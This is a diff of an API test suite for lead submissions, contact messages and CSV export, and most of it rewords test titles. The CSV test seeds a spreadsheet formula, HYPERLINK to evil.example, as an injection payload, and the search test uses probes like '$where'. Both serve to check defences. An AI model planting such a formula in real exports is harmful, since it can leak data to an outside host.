@@ -90,19 +90,22 @@ describe('a submission', () => {
     ['+49 (0)176 1234 5678', '+4917612345678'],
     ['+234 0801 234 5678', '+2348012345678'],
     ['+1 (212) 555-0142', '+12125550142'],
-  ])('with the number %j is stored as %s and found by either spelling', async (phoneNumber, stored) => {
-    const id = await newLead({ phoneNumber });
-    expect(await getLead(id)).toMatchObject({ phoneNumber: stored, isPhonePossible: true });
-    for (const search of [stored, phoneNumber]) {
-      const { data } = await list({ search, limit: '100' });
-      expect(
-        data.map((lead) => lead.id),
-        search,
-      ).toContain(id);
-    }
-  });
+  ])(
+    'with the number %j is stored as %s, and a search finds either spelling',
+    async (phoneNumber, stored) => {
+      const id = await newLead({ phoneNumber });
+      expect(await getLead(id)).toMatchObject({ phoneNumber: stored, isPhonePossible: true });
+      for (const search of [stored, phoneNumber]) {
+        const { data } = await list({ search, limit: '100' });
+        expect(
+          data.map((lead) => lead.id),
+          search,
+        ).toContain(id);
+      }
+    },
+  );
 
-  it('is linked to a submission with another spelling of its number', async () => {
+  it('is linked to a submission in which the same number is spelled differently', async () => {
     const digits = String(randomInt(10_000_000, 100_000_000));
     const first = await newLead({ phoneNumber: `+49 (0)176 ${digits}` });
     const second = await newLead({ phoneNumber: `\u202a+49176\u00a0${digits}\u202c` });
@@ -111,7 +114,7 @@ describe('a submission', () => {
       expect((await list({ search })).data.map(({ id }) => id).sort()).toEqual([first, second].sort());
   });
 
-  it('has an error at each wrong field (ASVS 2.2.3)', async () => {
+  it('has an error at each invalid field (ASVS 2.2.3)', async () => {
     const body = {
       ...someLead(),
       email: 'no',
@@ -136,7 +139,7 @@ describe('a submission', () => {
   it.each([
     ['the field that nobody sees', { website: 'https://spam.example' }, ['honeypot']],
     ['no time to read it', { elapsedMs: 40 }, ['too-fast']],
-  ])('is stored and marked if it has %s', async (_what, change, reasons) => {
+  ])('is stored and marked as suspicious if it has %s', async (_what, change, reasons) => {
     const lead = await getLead(await newLead(change));
     expect(lead).toMatchObject({ isSuspect: true, suspectReasons: reasons });
     expect((await list({ suspect: 'yes', search: lead.email })).data).toHaveLength(1);
@@ -164,7 +167,7 @@ describe('a submission', () => {
       expect((await submit(someLead(change))).status).toBe(422);
   });
 
-  it('sent fifty times at once with one key creates one lead, with the same reply', async () => {
+  it('creates one lead if it is sent fifty times at once with one key, and gets the same reply each time', async () => {
     const body = someLead();
     const key = { 'idempotency-key': randomUUID() };
     const replies = await Promise.all(Array.from({ length: 50 }, () => submit(body, key)));
@@ -176,7 +179,7 @@ describe('a submission', () => {
     expect(other).toMatchObject({ status: 409, envelope: { error: 'request.idempotency_key_reused' } });
   });
 
-  it('is stored for a known person as well, and linked by address or by number', async () => {
+  it('is stored even if the person has submitted before, and is linked by address or by number', async () => {
     const first = someLead();
     const ids = [
       await newLead(first),
@@ -191,7 +194,7 @@ describe('a submission', () => {
 });
 
 describe('the list', () => {
-  it('counts each status in the search results, whatever the status filter, and includes today in the chart', async () => {
+  it('counts the search results by status, whatever the status filter, and includes today in the chart', async () => {
     const name = `Counted ${unique()}`;
     const ids = [
       await newLead({ fullName: name }),
@@ -219,7 +222,7 @@ describe('the list', () => {
     expect(found.assignees).toContainEqual({ id: adminUser.userId, fullName: 'Zed Admin' });
   });
 
-  it('finds a number however it is written, and searches for any text literally', async () => {
+  it('finds a number in every spelling, and searches for any text literally', async () => {
     const body = someLead({ fullName: 'A.*b (c) [d] $e' });
     await newLead(body);
     const written = body.phoneNumber.replace('+234', '+234 ').replace(/(\d{3})(\d{4})$/, '$1-$2');
@@ -229,7 +232,7 @@ describe('the list', () => {
     for (const search of ['(', '[a', '\\', '$where', '^']) expect((await list({ search })).status).toBe(200);
   });
 
-  it('is empty beyond its end and outside its days, and has 50 rows by default', async () => {
+  it('is empty on a page after its end and outside its days, and has 50 rows by default', async () => {
     const beyond = await list({ page: '999999' });
     expect(beyond).toMatchObject({ status: 200, data: [], pagination: { current: 999_999 } });
     expect((await list({ to: '2020-01-01' })).data).toEqual([]);
@@ -314,7 +317,7 @@ describe('work on a lead', () => {
     expect((await getLead(id)).version).toBe(1);
   });
 
-  it('accepts one of two simultaneous changes, and shows the other admin the new state', async () => {
+  it('accepts only one of two simultaneous changes, and shows the other admin the new state', async () => {
     const id = await newLead();
     const seen = { 'if-match': '"1"' };
     const replies = await Promise.all([
@@ -329,7 +332,7 @@ describe('work on a lead', () => {
 });
 
 describe('the CSV', () => {
-  it('has the rows of the list under the same filters, and no formulas', async () => {
+  it('has the rows of the list under the same filters, and no cells that are formulas', async () => {
     const mark = unique();
     await newLead({
       fullName: `=HYPERLINK("http://evil.example?${mark}","x")`,
@@ -386,7 +389,7 @@ describe('a list of leads', () => {
     expect(linked.size).toBe(16);
   });
 
-  it('counts a person’s other submissions only up to the number that a lead lists', async () => {
+  it('counts a person’s other submissions only up to the maximum that is shown with a lead', async () => {
     const email = `many-${unique()}@example.com`;
     await newLead({ email });
     const stored = harness.database.collection<{ _id: string }>('submissions');
@@ -451,7 +454,7 @@ describe('the contact form', () => {
   const send = (body: unknown, headers: Record<string, string> = {}) =>
     harness.call<{ id: string }>('POST', '/api/contact', { body, headers });
 
-  it('sent fifty times at once with one key creates one message, published once', async () => {
+  it('creates and publishes one message if it is sent fifty times at once with one key', async () => {
     const body = message();
     const key = { 'idempotency-key': randomUUID() };
     const replies = await Promise.all(Array.from({ length: 50 }, () => send(body, key)));
@@ -484,7 +487,7 @@ describe('the contact form', () => {
 });
 
 describe('a member', () => {
-  it('can export forms from their own address, which are erased with the account and audited', async () => {
+  it('can export forms that were sent from their own address, and the forms are erased with the account and audited', async () => {
     const member = someUser();
     await harness.publishUser(member);
     const own = await newLead({ email: member.email });
@@ -516,7 +519,7 @@ describe('a member', () => {
     await harness.storesNothingOf(member.email);
   });
 
-  it('is erased with forms from a former address, which no other member can export', async () => {
+  it('is erased with forms from an address that they used before, and no other member can export these forms', async () => {
     const member = someUser();
     await harness.publishUser(member);
     const before = await newLead({ email: member.email });
